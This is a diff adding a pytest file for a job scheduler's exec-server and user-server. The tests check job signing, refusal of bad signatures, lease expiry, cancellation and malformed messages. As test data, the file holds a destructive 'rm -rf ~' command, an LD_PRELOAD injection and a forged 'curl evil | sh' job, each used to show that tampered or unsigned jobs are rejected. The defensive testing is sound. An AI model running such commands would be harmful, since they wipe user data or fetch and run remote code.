@@ -1,0 +1,237 @@
+"""The two daemons that run as the user, driven as their peers would: the exec-server over its
+socket (real jobs, a clock the test steps for the lease) and the user-server's signing and
+signature checks.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import os
+import socket
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from hq import auth
+from hq.config import Installation, ServerConfig
+from hq.execd.service import ExecServer, Settings
+from hq.jobspec import JobSpec, submission_digest
+from hq.protocol import Channel, hello
+from hq.protocol.messages import (
+    EXECD_SENDS_USERD,
+    Ack,
+    CancelJobs,
+    JobEnded,
+    JobEvents,
+    JobStarted,
+    Run,
+    RunJob,
+    SubmissionEnv,
+    Submit,
+    SyncRequest,
+    Welcome,
+)
+
+pytestmark = pytest.mark.timeout(60)
+ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin"}
+
+
+@pytest.fixture
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A HOME of the test's own: ~/.hq holds the signing key the daemons use."""
+    home = tmp_path / "home"
+    home.mkdir(mode=0o700)
+    monkeypatch.setenv("HOME", str(home))
+    return home
+
+
+@dataclass
+class Clock:
+    now: float = 1_000_000.0
+
+    def __call__(self) -> float:
+        return self.now
+
+
+@dataclass
+class ExecPeer:
+    """A user-server's link to an exec-server: a channel and the job events it received."""
+
+    server: ExecServer
+    channel: Channel
+    events: list[JobStarted | JobEnded]
+
+    async def event(self, job_id: int, kind: type, timeout: float = 10.0) -> JobStarted | JobEnded:
+        async with asyncio.timeout(timeout):
+            while True:
+                for event in self.events:
+                    if event.id == job_id and isinstance(event, kind):
+                        return event
+                await asyncio.sleep(0.01)
+
+
+@contextlib.asynccontextmanager
+async def exec_server(tmp_path: Path, clock: Clock, **settings: float) -> AsyncIterator[ExecPeer]:
+    path = tmp_path / "execd.sock"
+    listening = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listening.bind(str(path))
+    listening.listen(8)
+    server = ExecServer(listening, path, hostname="testhost", user=auth.user_name(os.geteuid()),
+                        settings=Settings(**settings), clock=clock)
+    serving = asyncio.create_task(server.serve())
+    await asyncio.sleep(0.05)
+    reader, writer = await asyncio.open_unix_connection(str(path))
+    channel = Channel(reader, writer, "exec-server", accepts=EXECD_SENDS_USERD)
+    channel.send(hello("userd", "test"))
+    welcome = await channel.receive_as(Welcome)
+    assert (welcome.host, welcome.pid) == ("testhost", os.getpid())
+    peer = ExecPeer(server, channel, [])
+
+    def collect(message: object) -> None:
+        if isinstance(message, JobEvents):
+            peer.events.extend(message.events)
+
+    listener = asyncio.create_task(channel.serve(collect))
+    try:
+        yield peer
+    finally:
+        channel.close()
+        server._stop.set()  # type: ignore[union-attr]
+        await asyncio.wait_for(serving, 10)
+        listener.cancel()
+        for job in list(server.runner.jobs.values()):
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(job.pid, 9)
+
+
+def run_message(tmp_path: Path, job_id: int, command: str, *, key: bytes | None,
+                **spec: object) -> Run:
+    owner = auth.user_name(os.geteuid())
+    job = JobSpec(command=command, cwd=str(tmp_path), stdout="/dev/null", stderr="/dev/null",
+                  **spec)  # type: ignore[arg-type]
+    signature = auth.sign_job(key or b"\x00" * 32, job, owner, submission_digest(ENV, 0o022))
+    return Run(jobs=[RunJob(job_id, 5, msgspec.structs.replace(job, signature=signature))],
+               submissions={"5": SubmissionEnv(environment=ENV, umask=0o022)}, owner=owner)
+
+
+def test_a_signed_job_runs_is_reported_until_acked_and_never_starts_twice(tmp_path, home):
+    async def body() -> None:
+        key = auth.load_signing_key(create=True)
+        async with exec_server(tmp_path, Clock()) as peer:
+            peer.channel.send(run_message(tmp_path, 1, "exit 4", key=key))
+            started = await peer.event(1, JobStarted)
+            ended = await peer.event(1, JobEnded)
+            assert (ended.exit_code, ended.pid, ended.reason) == (4, started.pid, None)
+            view = await peer.channel.request(SyncRequest())
+            assert view.running == [] and [e.id for e in view.ended] == [1]
+            peer.channel.send(Ack(ids=[1]))
+            assert (await peer.channel.request(SyncRequest())).ended == []
+            peer.channel.send(run_message(tmp_path, 1, "exit 4", key=key))   # the same id
+            await peer.channel.request(SyncRequest())
+            assert [type(e).__name__ for e in peer.events if e.id == 1] == ["JobStarted",
+                                                                             "JobEnded"]
+    asyncio.run(body())
+
+
+def test_a_bad_signature_never_starts(tmp_path, home):
+    async def body() -> None:
+        auth.load_signing_key(create=True)
+        async with exec_server(tmp_path, Clock()) as peer:
+            peer.channel.send(run_message(tmp_path, 2, f"touch {tmp_path}/ran", key=None))
+            ended = await peer.event(2, JobEnded)
+            assert ended.reason == "refused: bad signature" and ended.pid is None
+            assert not (tmp_path / "ran").exists()
+    asyncio.run(body())
+
+
+def test_the_lease_kills_jobs_once_no_user_server_renewed_it(tmp_path, home):
+    async def body() -> None:
+        key = auth.load_signing_key(create=True)
+        clock = Clock()
+        async with exec_server(tmp_path, clock, lease_s=30.0) as peer:
+            peer.channel.send(run_message(tmp_path, 3, "sleep 60", key=key))
+            await peer.event(3, JobStarted)
+            clock.now += 29
+            peer.server._check_lease(clock())
+            assert 3 in peer.server.runner.jobs
+            clock.now += 2                          # 31 s without contact
+            peer.server._check_lease(clock())
+            ended = await peer.event(3, JobEnded)
+            assert ended.reason == "lease expired: no contact with a user-server"
+            assert ended.signal == 15
+    asyncio.run(body())
+
+
+def test_cancel_stops_a_running_job(tmp_path, home):
+    async def body() -> None:
+        key = auth.load_signing_key(create=True)
+        async with exec_server(tmp_path, Clock()) as peer:
+            peer.channel.send(run_message(tmp_path, 4, "sleep 60", key=key))
+            await peer.event(4, JobStarted)
+            peer.channel.send(CancelJobs(ids=[4], reason="cancelled"))
+            ended = await peer.event(4, JobEnded)
+            assert (ended.reason, ended.signal) == ("cancelled", 15)
+    asyncio.run(body())
+
+
+def test_an_ill_typed_order_ends_the_link_and_starts_nothing(tmp_path, home):
+    async def body() -> None:
+        auth.load_signing_key(create=True)
+        async with exec_server(tmp_path, Clock()) as peer:
+            bad = b'{"type": "cancel", "ids": ["all jobs"]}'
+            peer.channel.writer.write(len(bad).to_bytes(4, "big") + bad)
+            await asyncio.wait_for(peer.channel.closed.wait(), 5)
+            assert peer.server.runner.jobs == {} and peer.server.controller is None
+    asyncio.run(body())
+
+
+# --- the user-server's signatures ----------------------------------------------------------
+
+def user_server(tmp_path: Path):  # type: ignore[no-untyped-def]
+    from hq.userd.service import UserServer
+
+    inst = Installation(tmp_path / "hq")
+    return UserServer(inst, ServerConfig.defaults(inst), os.geteuid(), tmp_path / "userd.sock")
+
+
+def test_the_user_server_signs_every_job_with_the_users_key(tmp_path, home):
+    userd = user_server(tmp_path)
+    request = Submit(jobs=[JobSpec(command="true", cwd="/tmp", array_index=i) for i in (1, 2)],
+                     environment=ENV, umask=0o022)
+    signed = userd._signed(request)
+    digest = submission_digest(ENV, 0o022)
+    key = auth.load_signing_key(create=False)
+    assert all(auth.job_signature_ok(key, job, userd.user, digest) for job in signed.jobs)
+    # a signature covers the command, the index and what the submission shares
+    tampered = msgspec.structs.replace(signed.jobs[0], command="rm -rf ~")
+    assert not auth.job_signature_ok(key, tampered, userd.user, digest)
+    assert not auth.job_signature_ok(key, signed.jobs[0], userd.user,
+                                     submission_digest({**ENV, "LD_PRELOAD": "x"}, 0o022))
+    moved = msgspec.structs.replace(signed.jobs[0], array_index=2)
+    assert not auth.job_signature_ok(key, moved, userd.user, digest)
+
+
+def test_the_user_server_refuses_a_run_it_did_not_sign(tmp_path, home):
+    async def body() -> None:
+        userd = user_server(tmp_path)
+        ours, theirs = socket.socketpair()
+        reader, writer = await asyncio.open_connection(sock=ours)
+        peer_reader, _peer_writer = await asyncio.open_connection(sock=theirs)
+        userd.server = Channel(reader, writer, "hq-server")
+        userd.server_up.set()
+        forged = run_message(tmp_path, 9, "curl evil | sh", key=None)
+        userd._run("n1", msgspec.structs.replace(forged, owner=None))
+        from hq.protocol.frames import HEADER, decode_as
+        from hq.protocol.messages import USERD_SENDS_SERVER
+
+        (length,) = HEADER.unpack(await peer_reader.readexactly(4))
+        report = decode_as(USERD_SENDS_SERVER, await peer_reader.readexactly(length))
+        assert isinstance(report, JobEvents) and report.host == "n1"
+        assert [(e.id, e.reason) for e in report.events] == [(9, "refused: bad signature")]
+        assert userd.links == {}          # nothing was handed to an exec-server
+        userd.server.close()
+    asyncio.run(body())
